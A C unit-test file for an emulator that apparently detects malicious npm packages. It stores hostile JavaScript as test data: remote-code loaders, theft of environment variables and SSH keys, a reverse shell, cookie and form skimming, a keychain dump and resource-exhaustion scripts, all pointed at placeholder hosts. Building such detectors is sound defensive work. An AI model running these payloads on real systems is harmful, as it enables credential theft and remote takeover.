/* Inert loaders and hostile scripts, run in the mocked world; every flow class once, as data. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <time.h>

#include "base/hash.h"
#include "facts/emulator/emulator.h"
#include "facts/emulator/inflate.h"
#include "facts/emulator/marks.h"
#include "support/archives.h"
#include "support/say_facts.h"

static RtEmulator *emulator; /* the world is built once for all tests, as in a worker */

static RtLayerId find_from_root(RtSink *sink, RtLayerId from, RtStr path)
{
    const FakeSink *fake = (const FakeSink *)sink;
    (void)from;
    static const char *const suffixes[] = { "", ".js", ".json", "/index.js", "/package.json" };
    while (path.len != 0 && path.at[0] == '/')
        path = rt_str_from(path, 1);
    for (size_t i = 0; i < RT_COUNT(suffixes); i++) {
        RtStr whole = rt_str_format(sink->arena, "%.*s%s", RT_FMT(path), suffixes[i]);
        for (RtLayerId id = 2; id < fake->layer_count; id++) {
            if (fake->layers[id].via == RT_VIA_ENTRY && rt_str_equal(fake->layers[id].name, whole))
                return id;
        }
    }
    return 0;
}

static FakeSink *package(const char *name, const char *script, const char *other_name,
                         const char *other)
{
    FakeSink *fake = fake_sink_open(RT_STR("package"), RT_STR(""));
    fake->sink.find = find_from_root;
    fake->ms_left = 20000;
    fake->sink.layer(&fake->sink, (RtLayer){ .parent = 1,
                                             .via = RT_VIA_ENTRY,
                                             .name = rt_str_from_c(name),
                                             .bytes = rt_str_from_c(script) });
    if (other_name != NULL)
        fake->sink.layer(&fake->sink, (RtLayer){ .parent = 1,
                                                 .via = RT_VIA_ENTRY,
                                                 .name = rt_str_from_c(other_name),
                                                 .bytes = rt_str_from_c(other) });
    return fake;
}

static RtStr run(FakeSink *fake)
{
    RtEmulationEntry entry = { .kind = RT_RUN_IMPORT, .layer = 2 };
    rt_emulate(emulator, &(RtEmulation){ .entries = &entry, .count = 1 }, &fake->sink);
    return say_facts(fake);
}

typedef struct {
    const char *name, *file, *script, *wanted, *other_name, *other;
} Case;

static const Case flows[] = {
    { "network to eval", "a.js",
      "require('https').get('https://example.invalid/s', r => { let d = ''; r.on('data', c => d += "
      "c); r.on('end', () => eval(d)); })",
      "net.request|https://example.invalid/s|GET\ncode.eval|<net>|eval <- net.request", NULL,
      NULL },
    { "network to Function by constructor", "a.js",
      "require('axios').get('https://example.invalid/s').then(r => (() => "
      "{}).constructor('require', r.data.code)(require))",
      "code.eval|<net>|Function <- net.request", NULL, NULL },
    { "in the error path", "a.js",
      "require('axios').get('https://example.invalid/s').then(() => {}).catch(e => "
      "eval(e.response.data.token))",
      "code.eval|<net>|eval <- net.request", NULL, NULL },
    { "only text will do", "a.js",
      "fetch('https://example.invalid/s').then(r => r.json()).then(d => { if (typeof d.cookie === "
      "'string') new Function(d.cookie)(); })",
      "code.eval|<net>|Function <- net.request", NULL, NULL },
    { "behind xor", "a.js",
      "fetch('https://example.invalid/s').then(r => r.text()).then(t => { let o = ''; for (let i = "
      "0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 42); eval(o) })",
      "code.eval|", NULL, NULL },
    { "network to file to process", "a.js",
      "const fs = require('fs'), p = require('path').join(require('os').tmpdir(), "
      "'run.bin');\nrequire('http').get('http://192.0.2.1/b', r => "
      "r.pipe(fs.createWriteStream(p)).on('finish', () => { fs.chmodSync(p, 0o755); "
      "require('child_process').spawn(p, [], { detached: true, stdio: 'ignore' }).unref() }))",
      "file.write|/tmp/run.bin|<net>||write <- net.request\nfile.chmod|/tmp/run.bin|755 <- "
      "file.write\nproc.exec|/tmp/run.bin|spawn|detached ignore <- file.write",
      NULL, NULL },
    { "network to node -e", "a.js",
      "fetch('https://example.invalid/s').then(r => r.text()).then(t => "
      "require('child_process').spawn('node', ['-e', Buffer.from(t, 'base64').toString()]))",
      "proc.exec|node -e <net>|spawn <- net.request", NULL, NULL },
    { "environment to network in base64", "a.js",
      "const b = Buffer.from(JSON.stringify(process.env)).toString('base64'); const q = "
      "require('https').request({ hostname: 'example.invalid', path: '/u', method: 'POST' }); "
      "q.write(b); q.end()",
      "env.read|*\nnet.request|https://example.invalid/u|POST", NULL, NULL },
    { "key file and host name to network", "a.js",
      "const os = require('os'), fs = require('fs'); fetch('https://example.invalid/u', { method: "
      "'POST', body: Buffer.from(os.hostname() + fs.readFileSync(os.homedir() + "
      "'/.ssh/id_rsa')).toString('hex') })",
      "file.read|/home/dev/.ssh/id_rsa", NULL, NULL },
    { "host name in a name that is looked up", "a.js",
      "require('dns').lookup(require('os').hostname() + '.example.invalid', () => {})",
      "net.dns|<host>.example.invalid|A <- host.info", NULL, NULL },
    { "reverse shell", "a.js",
      "const s = require('net').connect(4444, '192.0.2.9'), sh = "
      "require('child_process').spawn('/bin/sh', []); s.on('data', d => { sh.stdin.write(d); "
      "sh.stdin.end() }); sh.stdout.pipe(s)",
      "net.connect|192.0.2.9|4444||tcp\nproc.exec|/bin/sh|stdin||<net>", NULL, NULL },
    { "chain dead drop", "a.js",
      "const rpc = (m, p) => fetch('https://rpc.example.invalid', { method: 'POST', body: "
      "JSON.stringify({ jsonrpc: '2.0', id: 1, method: m, params: p }) }).then(r => "
      "r.json()).then(r => r.result);\nrpc('eth_getTransactionByHash', ['0x1']).then(t => "
      "eval(Buffer.from(t.input.slice(2), 'hex').toString().split('?.?')[1]))",
      "code.eval|<net>|eval <- net.request", NULL, NULL },
    { "what an answer is compared with", "a.js",
      "fetch('https://example.invalid/s').then(r => r.json()).then(d => { if (d.status === 'go') "
      "fetch('https://example.invalid/2').then(r => r.text()).then(t => eval(t)) })",
      "net.request|https://example.invalid/2|GET\ncode.eval|<net>|eval <- net.request", NULL,
      NULL },
    { "a missing global is given", "a.js",
      "document.title; var w = new ActiveXObject('WScript.Shell'); w.Run('powershell -c calc')",
      "proc.exec|powershell -c calc|WScript.Shell.Run", NULL, NULL },
    { "only on Windows", "a.js",
      "if (process.platform === 'win32') require('child_process').exec('cmd /c echo 1')",
      "proc.exec|cmd /c echo 1|exec", NULL, NULL },
    { "only on a Mac", "a.js",
      "const p = require('os').platform(); switch (p) { case 'win32': break; case 'darwin': "
      "require('child_process').exec('security dump-keychain') }",
      "proc.exec|security dump-keychain|exec", NULL, NULL },
    { "an exported function", "a.js",
      "exports.go = async function (name) { const r = await fetch('https://example.invalid/' + "
      "name); eval(await r.text()) }",
      "code.eval|<net>|eval <- net.request", NULL, NULL },
    { "ECMAScript modules", "a.mjs",
      "import { exec } from 'node:child_process'; import x, { y } from 'unknown-thing'; import z "
      "from './b.js'; const t = await (await fetch('https://example.invalid/s')).text(); exec(t); "
      "exec(z.word)",
      "proc.exec|<net>|exec <- net.request\nproc.exec|from-b|exec", "b.js",
      "exports.word = 'from-b'" },
    { "TypeScript", "a.ts",
      "interface A { x: number }\nimport type { B } from './b';\nconst f = async <T>(u: string, "
      "n?: number): Promise<T> => (await fetch(u as string)).text() as "
      "any;\nf<string>('https://example.invalid/s')!.then((t: any) => eval(t));",
      "code.eval|<net>|eval <- net.request", NULL, NULL },
    { "a tail behind a page that cannot run", "a.jsx",
      "import React from 'react';\nthrow new Error('no host');\nexport default () => "
      "<div>hello</div>;                                                                           "
      "                       "
      "eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2VjaG8gdGFpbCcp')); /* padding padding "
      "padding padding padding padding padding padding padding padding padding padding padding "
      "padding padding padding */",
      "proc.exec|echo tail|exec", NULL, NULL },
    { "evaluated text is a layer", "a.js",
      "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2VjaG8gbGF5ZXInKQ==', "
      "'base64').toString())",
      "proc.exec|echo layer|exec", NULL, NULL },
    { "written and then loaded", "a.js",
      "require('fs').writeFileSync('/tmp/w.js', \"require('child_process').exec('echo "
      "written')\"); require('/tmp/w.js')",
      "code.require|/tmp/w.js|written <- file.write\nproc.exec|echo written|exec", NULL, NULL },
    { "real ciphers and zlib", "a.js",
      "const c = require('crypto'), z = require('zlib'); const k = Buffer.alloc(32, 1), v = "
      "Buffer.alloc(16, 2); const e = c.createCipheriv('aes-256-cbc', k, v); const t = "
      "Buffer.concat([e.update(z.gzipSync(\"require('child_process').exec('echo "
      "'+require('crypto').createHash('md5').update('a').digest('hex'))\")), e.final()]); const d "
      "= c.createDecipheriv('aes-256-cbc', k, v); eval(z.gunzipSync(Buffer.concat([d.update(t), "
      "d.final()])).toString())",
      "proc.exec|echo 0cc175b9c0f1b6a831c399e269772661|exec", NULL, NULL },
    { "constructing is not doing", "a.js",
      "const http = require('http'); new http.Agent(); new (require('net').Socket)(); "
      "require('axios').create({ baseURL: 'https://example.invalid' })",
      "!net.", NULL, NULL },
    { "a template engine is no loader", "a.js",
      "exports.compile = t => new Function('d', 'return ' + JSON.stringify(t) + ' + d')('x')",
      "!net.\n!proc.", NULL, NULL },
    { "generators that were compiled away", "a.js",
      "(function () { return regeneratorRuntime.async(function f$(c) { while (1) switch (c.prev = "
      "c.next) { case 0: c.prev = 0; c.next = 3; return "
      "regeneratorRuntime.awrap(fetch('https://example.invalid/s')); case 3: c.next = 5; return "
      "regeneratorRuntime.awrap(c.sent.text()); case 5: eval(c.sent); throw 1; case 8: c.prev = 8; "
      "c.t0 = c['catch'](0); require('child_process').exec('echo caught' + c.t0); case 'end': "
      "return c.stop() } }, null, this, [[0, 8]]) })()",
      "code.eval|<net>|eval <- net.request\nproc.exec|echo caught1|exec", NULL, NULL },
    { "a form on a page, at night", "a.js",
      "if (typeof window !== 'undefined' && new Date().getHours() > 20) for (const f of "
      "document.forms) f.addEventListener('submit', function () { let d = document.cookie; for "
      "(const e of this.elements) d += '|' + e.value; const l = document.createElement('link'); "
      "l.href = 'https://example.invalid/?' + btoa(d); document.head.appendChild(l) })",
      "secret.read|cookies\nsecret.read|form password\nnet.request|https://example.invalid/?", NULL,
      NULL },
    { "a batch file that was written", "a.js",
      "require('fs').writeFileSync('go.bat', '@echo off\\nnode -e "
      "\"require(`child_process`).exec(`echo inner`)\"'); "
      "require('child_process').exec('\"go.bat\"')",
      "proc.exec|\"go.bat\"|exec <- file.write\nproc.exec|echo inner|exec", NULL, NULL },
    { "leaving is not leaving", "a.js", "process.exit(3); require('child_process').exec('echo on')",
      "call|process.exit|3\nproc.exec|echo on|exec", NULL, NULL },
    { "settings from its own file", "a.js",
      "const c = require('./config.json'); require('child_process').exec('echo ' + c.word)",
      "proc.exec|echo fine|exec", "config.json", "{\"word\":\"fine\"}" },
    { "a handler that takes its this for the global object", "a.js",
      "require('http').get('http://example.invalid/u', r => { let b = ''; r.on('data', d => { b += "
      "d }); r.on('end', function () { const F = this['F' + 'unction']; new F(this.Buffer.from(b) "
      "+ "
      "'')() }) })",
      "code.eval|<net>|Function <- net.request", NULL, NULL },
    { "through a library nobody has", "a.js",
      "const odd = require('odd-encoding'); fetch('https://example.invalid/?' + "
      "odd.encode(require('os').hostname())); ",
      "net.request|https://example.invalid/?<host>|GET <- host.info", NULL, NULL },
    { "and back", "a.js",
      "fetch('https://example.invalid/s').then(r => r.text()).then(t => "
      "eval(require('odd-encoding').decode(t)))",
      "code.eval|<net>|eval <- net.request", NULL, NULL },
    { "a key whose name was shortened", "a.js",
      "exports.fromSecretKey = _0x1f => { fetch('https://example.invalid/?' + _0x1f) }",
      "parameter|fromSecretKey\nnet.request|https://example.invalid/?<argument>|GET <- parameter",
      NULL, NULL },
    { "a longer parameter speaks for itself", "a.js",
      "exports.fromSecretKey = (options) => { fetch('https://example.invalid/?' + options) }",
      "!parameter", NULL, NULL },
    { "waits for a word on the command line", "a.js",
      "const w = process.argv.slice(2); if (w.find(x => x === 'go') && w.some(x => x === '--now')) "
      "require('child_process').exec('echo went')",
      "proc.exec|echo went|exec", NULL, NULL },
    { "or for one and not another", "a.js",
      "const a = process.argv; if (a.includes('x') || !a.find(x => x === 'debug') === !a.find(x => "
      "x "
      "=== '--send')) return; if (!a.find(x => x === 'debug')) "
      "require('child_process').exec('echo sent')",
      "proc.exec|echo sent|exec", NULL, NULL },
    { "the whole environment, key by key", "a.js",
      "const o = {}; for (const k of Object.keys(process.env)) o[k] = process.env[k]; "
      "fetch('https://example.invalid/', { method: 'POST', body: JSON.stringify(o) })",
      "env.read|*\nnet.request|https://example.invalid/|POST", NULL, NULL },
};

static void test_flows(void **state)
{
    (void)state;
    int missing = 0;
    for (size_t i = 0; i < RT_COUNT(flows); i++) {
        FAKE_SINK fake =
            package(flows[i].file, flows[i].script, flows[i].other_name, flows[i].other);
        missing += miss_facts(flows[i].name, run(fake), flows[i].wanted);
    }
    assert_int_equal(missing, 0);
}

/* What npm and editors run is a command line. */
static void test_commands(void **state)
{
    (void)state;
    static const struct {
        const char *command, *wanted;
    } cases[] = {
        { "node a.js && echo done", "proc.exec|echo from-a|exec" },
        { "(command -v node >/dev/null 2>&1 && node ./a.js) || (where node && node ./a.js)",
          "proc.exec|echo from-a|exec" },
        { "node -e \"require('child_process').exec('echo one-liner')\"",
          "proc.exec|echo one-liner|exec" },
        { "chmod +x go.sh && ./go.sh", "proc.exec|echo from-a|exec" },
        { "sh -x go.sh", "proc.exec|echo from-a|exec" },
        { "./absent.sh; node absent.js; node", "!from-a" },
        { "\"unclosed && node a.js", "!code.eval" },
        { "", "!from-a" },
    };
    int missing = 0;
    for (size_t i = 0; i < RT_COUNT(cases); i++) {
        FAKE_SINK fake =
            package("package.json", "{}", "a.js", "require('child_process').exec('echo from-a')");
        fake->sink.layer(&fake->sink, (RtLayer){ .parent = 1,
                                                 .via = RT_VIA_ENTRY,
                                                 .name = RT_STR("go.sh"),
                                                 .bytes = RT_STR("#!/bin/sh\n# so\nnode a.js") });
        RtEmulationEntry entry = { .kind = RT_RUN_COMMAND,
                                   .layer = 2,
                                   .phase = RT_WHEN_INSTALL,
                                   .hook = RT_STR("install"),
                                   .command = rt_str_from_c(cases[i].command) };
        rt_emulate(emulator, &(RtEmulation){ .entries = &entry, .count = 1 }, &fake->sink);
        missing += miss_facts(cases[i].command, say_facts(fake), cases[i].wanted);
    }
    assert_int_equal(missing, 0);
}

static bool reaches(const FakeSink *fake, RtFactId id, RtFactKind kind, int depth)
{
    const RtFact *fact = &fake->facts[id];
    for (size_t i = 0; i < fact->because_count && depth > 0; i++) {
        if (fake->facts[fact->because[i]].kind == kind ||
            reaches(fake, fact->because[i], kind, depth - 1))
            return true;
    }
    return false;
}

/* Flows whose text cannot be written down as a line. */
static void test_destroyed_bytes(void **state)
{
    (void)state;
    static const struct {
        const char *script;
        RtFactKind sink, source;
    } cases[] = {
        { "fetch('https://example.invalid/s').then(r => r.text()).then(t => { let o = ''; for (let "
          "i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 42); eval(o) })",
          RT_FACT_CODE_EVAL, RT_FACT_NET_REQUEST },
        { "fetch('https://example.invalid/s').then(r => r.text()).then(t => "
          "require('child_process').exec(t.split('').map(c => c.charCodeAt(0) * 3).join('.')))",
          RT_FACT_PROC_EXEC, RT_FACT_NET_REQUEST },
        { "const t = process.env.NPM_TOKEN; fetch('https://example.invalid/u', { method: 'POST', "
          "body: [...t].map(c => c.charCodeAt(0) ^ 7).join('-') })",
          RT_FACT_NET_REQUEST, RT_FACT_ENV_READ },
        { "const k = require('fs').readFileSync('/home/dev/.ssh/id_rsa'); const c = "
          "require('crypto').createCipheriv('aes-128-cbc', Buffer.alloc(16), Buffer.alloc(16)); "
          "fetch('https://example.invalid/u', { method: 'POST', body: c.update(k, null, 'base64') "
          "+ c.final('base64') })",
          RT_FACT_NET_REQUEST, RT_FACT_FILE_READ },
        { "const b = Buffer.from(JSON.stringify(process.env)).toString('base64'); "
          "fetch('https://example.invalid/u?d=' + encodeURIComponent(b))",
          RT_FACT_NET_REQUEST, RT_FACT_ENV_READ },
    };
    for (size_t i = 0; i < RT_COUNT(cases); i++) {
        FAKE_SINK fake = package("a.js", cases[i].script, NULL, NULL);
        RtStr said = run(fake);
        bool found = false;
        for (RtFactId id = 1; id < fake->fact_count; id++)
            found |= fake->facts[id].kind == cases[i].sink && reaches(fake, id, cases[i].source, 6);
        if (!found)
            print_message("case %zu said:\n%.*s\n", i, RT_FMT(said));
        assert_true(found);
    }
}

static void test_layers(void **state)
{
    (void)state;
    FAKE_SINK fake = package(
        "a.js",
        "eval(\"var layered = 'a text that was evaluated'\"); "
        "require('fs').writeFileSync('/tmp/left.sh', '#!/bin/sh\\necho a script that was written')",
        NULL, NULL);
    run(fake);
    const RtLayer *evaluated = fake_sink_layer_with(fake, RT_STR("a text that was evaluated'"));
    assert_non_null(evaluated);
    const RtLayer *written = fake_sink_layer(fake, RT_STR("/tmp/left.sh"));
    assert_non_null(written);
    assert_int_equal(written->via, RT_VIA_WRITTEN);
}

static void test_places(void **state)
{
    (void)state;
    const char *script = "const a = 1;\n  require('child_process').exec('echo place');\n";
    FAKE_SINK fake = package("a.js", script, NULL, NULL);
    run(fake);
    for (RtFactId id = 1; id < fake->fact_count; id++) {
        if (fake->facts[id].kind == RT_FACT_PROC_EXEC) {
            assert_int_equal(fake->facts[id].layer, 2);
            assert_in_range(fake->facts[id].from, 13, 60);
            return;
        }
    }
    fail();
}

static uint32_t cpu_ms(void)
{
    struct timespec now;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
    return (uint32_t)(now.tv_sec * 1000 + now.tv_nsec / 1000000);
}

/* Each says first what it does, then tries to take the machine or our world with it. */
static const char *const hostile[] = {
    "for (;;);",
    "while (true) { try { for (;;); } catch (e) {} }",
    "(function f() { Promise.resolve().then(f) })()",
    "(async () => { for (;;) await 0 })()",
    "setInterval(() => { for (;;); }, 1)",
    "let a = []; for (;;) a.push(a.slice())",
    "let s = 'x'; for (;;) s += s",
    "new Array(3e8) + ''",
    "Array(1e7).fill('ab').join('c').split('').sort()",
    "'a'.repeat(5e8)",
    "/((.+)+)+$/.test('x'.repeat(60) + '\\n')",
    "(function f() { f() })()",
    "let o = {}; for (let i = 0; i < 2e5; i++) o = { o }; JSON.stringify(o)",
    "Buffer.alloc(1 << 30)",
    "new Uint8Array(1e10)",
    "let n = 3n; for (;;) n = n * n",
    "for (let i = 0; i < 1e6; i++) eval('1+' + i)",
    "for (let i = 0; ; i++) require('fs').existsSync('/x/' + i)",
    "for (let i = 0; ; i++) require('fs').writeFileSync('/x/' + i, 'y'.repeat(1e6))",
    "let x = require('unknown'); for (;;) x = x.next",
    "for (const y of function* () { for (;;) yield 1 }()) ;",
    "Object.prototype.then = function () { for (;;); }; Promise.resolve({})",
    "Array.prototype.push = String.prototype.split = Object.defineProperty = function () { throw 1 "
    "}; Function.prototype.call = null",
    "for (const k of Object.getOwnPropertyNames(globalThis)) try { delete globalThis[k] } catch "
    "(e) {}",
    "Object.getPrototypeOf(require).call = 1; "
    "Object.getPrototypeOf(Object.getPrototypeOf(process)).on = 1",
    "require('fs').writeFileSync({ get toString() { for (;;); } }, 'x')",
    "require('http').get(new Proxy({}, { get() { throw 1 } }))",
    "require('http').get(new Proxy({}, { get(t, k, r) { return r } }))",
    "fetch('http://192.0.2.1/', { body: { toJSON() { return new Proxy({}, { ownKeys() { for (;;); "
    "} }) } } })",
    "process.exit(0); process.abort()",
    "Symbol.prototype[Symbol.toPrimitive] = null; Atomics.wait(new Int32Array(new "
    "SharedArrayBuffer(8)), 0, 0)",
    "Error.prepareStackTrace = () => { for (;;); }; null.x",
    "class A extends (require('x')) { constructor() { super(); this.#a() } #a() { this.#a() } } "
    "new A()",
    "throw { toString() { throw { toString() { for (;;); } } } }",
    "import('data:text/javascript,for(;;);')",
    "eval('('.repeat(1e5)); eval('['.repeat(1e6))",
    "new Function('a'.repeat(1e6), 'return 1')",
    "String.fromCharCode.apply(null, new Array(1e6).fill(65))",
    "new Date().getTimezoneOffset(); new Date(1e15).toLocaleString(); Intl",
};

static void test_hostile_scripts(void **state)
{
    (void)state;
    for (size_t i = 0; i < RT_COUNT(hostile); i++) {
        FAKE_SINK fake = package("a.js", hostile[i], NULL, NULL);
        RtStr script = rt_str_format(
            fake->sink.arena, "require('child_process').exec('echo before');\n%s", hostile[i]);
        fake->layers[2].bytes = script;
        uint32_t started = cpu_ms();
        run(fake);
        uint32_t spent = cpu_ms() - started;
        if (fake_sink_facts(fake, RT_FACT_PROC_EXEC, RT_STR("echo before")) != 1 || spent > 6000)
            fail_msg("hostile script %zu (%u ms): %s", i, spent, hostile[i]);
    }
    FAKE_SINK after = package("a.js", flows[0].script, NULL, NULL);
    assert_int_equal(miss_facts("after all of them", run(after), flows[0].wanted), 0);
}

static void test_same_bytes_same_trace(void **state)
{
    (void)state;
    static const char *const scripts[] = {
        "const c = require('crypto'); fetch('https://example.invalid/' + Math.random() + "
        "Date.now() + c.randomBytes(8).toString('hex') + process.pid + process.hrtime()[1] + new "
        "Error().stack.length).then(r => r.text()).then(t => eval(t)); for (const k in "
        "process.env) require('fs').writeFileSync('/tmp/' + k, process.env[k])",
        "const x = require('child_process').exec, o = require('os'); x('echo ' + "
        "[performance.now(), "
        "process.memoryUsage().rss, o.freemem(), o.uptime(), new Date().toLocaleString(), "
        "crypto.randomUUID(), Symbol('s').toString(), new Error('e').stack])",
        "const seen = []; Promise.race([1, 2, 3].map(n => new Promise(y => setTimeout(y, 30 / n, "
        "n)))).then(n => seen.push(n)); setImmediate(() => seen.push('i')); process.nextTick(() => "
        "seen.push('t')); setTimeout(() => require('child_process').exec('echo ' + seen), 90)",
        "const all = new Map(), list = []; for (let i = 0; i < 300; i++) all.set({ i }, i); for "
        "(const [k] of all) list.push(k.i * 7919 % 101); list.sort(() => Math.random() - 0.5); "
        "fetch('https://example.invalid/?' + list.join())",
    };
    for (size_t i = 0; i < RT_COUNT(scripts); i++) {
        FAKE_SINK first = package("a.js", scripts[i], NULL, NULL);
        RtStr a = run(first);
        FAKE_SINK between = package("a.js", hostile[i], NULL, NULL);
        run(between); /* what a run before leaves behind may not show */
        FAKE_SINK second = package("a.js", scripts[i], NULL, NULL);
        assert_true(a.len > 20);
        assert_true(rt_str_equal(a, run(second)));
    }
}

/* A budget that is spent is a gap only where the run was the one look there is. */
static void test_cut_short(void **state)
{
    (void)state;
    for (int second = 0; second < 2; second++) {
        FAKE_SINK fake = package("a.js", "require('fs'); for (;;) {}", NULL, NULL);
        RtEmulationEntry entries[] = {
            { .kind = RT_RUN_IMPORT, .layer = 2, .is_second_look = second == 1 },
            { .kind = RT_RUN_IMPORT, .layer = 2, .is_second_look = second == 1 },
        };
        rt_emulate(emulator,
                   &(RtEmulation){ .entries = entries, .count = RT_COUNT(entries), .cpu_ms = 60 },
                   &fake->sink);
        assert_int_equal(fake_sink_was_unseen(fake, RT_STR("limit-emulation-ms")), second == 0);
    }
}

/* Loaders compare these texts, and look at stacks, to tell a sandbox from Node. */
static const struct {
    const char *script, *words;
} errors[] = {
    { "undefined.x", "TypeError: Cannot read properties of undefined (reading 'x')" },
    { "null.x", "TypeError: Cannot read properties of null (reading 'x')" },
    { "let a; a[3]", "TypeError: Cannot read properties of undefined (reading '3')" },
    { "undefined.x = 1", "TypeError: Cannot set properties of undefined (setting 'x')" },
    { "null.x = 1", "TypeError: Cannot set properties of null (setting 'x')" },
    { "const c = 1; c = 2", "TypeError: Assignment to constant variable." },
    { "b; let b", "ReferenceError: Cannot access 'b' before initialization" },
    { "nowhere", "ReferenceError: nowhere is not defined" },
    { "class A {} A()", "TypeError: Class constructor  cannot be invoked without 'new'" },
    { "const o = () => 1; new o()", "TypeError: (intermediate value) is not a constructor" },
    { "JSON.parse('{')",
      "SyntaxError: Expected property name or '}' in JSON at position 1 (line 1 column 2)" },
    { "JSON.parse('')", "SyntaxError: Unexpected end of JSON input" },
    { "JSON.parse('oops')", "SyntaxError: Unexpected token 'o', \"oops\" is not valid JSON" },
    { "eval('(')", "SyntaxError: Unexpected end of input" },
    { "eval(')')", "SyntaxError: Unexpected token ')'" },
    { "eval('return')", "SyntaxError: Illegal return statement" },
    { "(function f() { f() })()", "RangeError: Maximum call stack size exceeded" },
    { "new Array(-1)", "RangeError: Invalid array length" },
    { "decodeURIComponent('%')", "URIError: URI malformed" },
    { "1n + 1", "TypeError: Cannot mix BigInt and other types, use explicit conversions" },
    { "Symbol() + ''", "TypeError: Cannot convert a Symbol value to a string" },
    { "const j = {}; j.j = j; JSON.stringify(j)",
      "TypeError: Converting circular structure to JSON" },
};

static void test_error_texts(void **state)
{
    (void)state;
    int missing = 0;
    for (size_t i = 0; i < RT_COUNT(errors); i++) {
        RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
        RtStr script = rt_str_format(
            arena,
            "try { %s } catch (e) { require('child_process').exec('echo ' + e + '|' + "
            "e.message.length) }",
            errors[i].script);
        RtStr wanted = rt_str_format(arena, "proc.exec|echo %s", errors[i].words);
        FAKE_SINK fake = package("a.js", rt_str_c(arena, script), NULL, NULL);
        missing += miss_facts(errors[i].script, run(fake), rt_str_c(arena, wanted));
    }
    assert_int_equal(missing, 0);
}

static void test_error_stacks(void **state)
{
    (void)state;
    static const char script[] =
        "function named() { return new Error('x') }\n"
        "const lines = named().stack.split('\\n'), inner = [1].map(() => new "
        "TypeError('y').stack);\n"
        "const at = l => l.replace(/:\\d+:\\d+/, ':L:C');\n"
        "const caught = (() => { try { null.z } catch (e) { return e.stack.split('\\n')[0] } "
        "})();\n"
        "require('child_process').exec('echo ' + [lines[0], at(lines[1]), at(lines[2]), "
        "lines[lines.length - 1] !== '', inner[0].split('\\n')[2], caught].join('; '))";
    FAKE_SINK fake = package("a.js", script, NULL, NULL);
    assert_int_equal(
        miss_facts("stack", run(fake),
                   "proc.exec|echo Error: x;     at named (/home/dev/project/a.js:L:C);     at "
                   "/home/dev/project/a.js:L:C; true;     at Array.map (<anonymous>); TypeError: "
                   "Cannot read properties of null (reading 'z')"),
        0);
}

static void test_marks(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(64 << 20, NULL, NULL);
    uint8_t mark[RT_MARK_LEN];
    for (uint32_t slot = 0; slot < RT_MARK_SLOTS; slot += 997) {
        rt_mark_write(slot, slot % 36, mark);
        RtStr text = rt_str_format(arena, "some words %.8s%.8s and more", (const char *)mark,
                                   (const char *)mark);
        RtStr forms[6] = { text,
                           rt_hex(arena, text),
                           pack_base64(arena, text),
                           pack_base64(arena, rt_hex(arena, text)),
                           pack_gzip(arena, text),
                           pack_base64(arena, pack_zlib(arena, text)) };
        for (size_t i = 0; i < RT_COUNT(forms); i++) {
            uint32_t slots[4];
            assert_int_equal(rt_marks_find(arena, forms[i], slots, 4), 1);
            assert_int_equal(slots[0], slot);
        }
        assert_int_equal(rt_marks_weight(text), 16);
    }
    uint32_t slots[4];
    assert_int_equal(
        rt_marks_find(arena, RT_STR("q7xabcde q7x q7 q7x0000 nothing of ours"), slots, 4), 0);
}

static void test_inflate(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(256 << 20, NULL, NULL);
    RtText plain = { .arena = arena };
    for (int i = 0; i < 5000; i++)
        rt_text_format(&plain, "%d line %d;", i, i * i % 97);
    RtStr text = rt_text_str(&plain), out;
    RtStr packed[3] = { pack_gzip(arena, text), pack_zlib(arena, text), pack_deflate(arena, text) };
    static const RtInflateForm forms[3] = { RT_INFLATE_GZIP, RT_INFLATE_ZLIB, RT_INFLATE_RAW };
    for (size_t i = 0; i < 3; i++) {
        assert_true(rt_inflate(arena, forms[i], packed[i], 1 << 20, &out));
        assert_true(rt_str_equal(out, text));
        assert_false(rt_inflate(arena, forms[i], packed[i], 100, &out));
        for (size_t cut = 0; cut + 12 < packed[i].len; cut += 499)
            assert_false(rt_inflate(arena, forms[i], rt_str_sub(packed[i], 0, cut), 1 << 20, &out));
        assert_true(
            rt_inflate(arena, forms[i], rt_deflate_stored(arena, forms[i], text), 1 << 20, &out));
        assert_true(rt_str_equal(out, text));
    }
}

static int open_emulator(void **state)
{
    (void)state;
    RtErr err = rt_emulator_open(&emulator);
    if (err.code == RT_OK)
        err = rt_emulator_prepare(emulator);
    if (err.code != RT_OK)
        print_error("%s\n", err.text);
    return err.code == RT_OK ? 0 : -1;
}

static int close_emulator(void **state)
{
    (void)state;
    rt_emulator_close(emulator);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_flows),
        cmocka_unit_test(test_commands),
        cmocka_unit_test(test_destroyed_bytes),
        cmocka_unit_test(test_layers),
        cmocka_unit_test(test_places),
        cmocka_unit_test(test_hostile_scripts),
        cmocka_unit_test(test_same_bytes_same_trace),
        cmocka_unit_test(test_cut_short),
        cmocka_unit_test(test_error_texts),
        cmocka_unit_test(test_error_stacks),
        cmocka_unit_test(test_marks),
        cmocka_unit_test(test_inflate),
    };
    return cmocka_run_group_tests(tests, open_emulator, close_emulator);
}
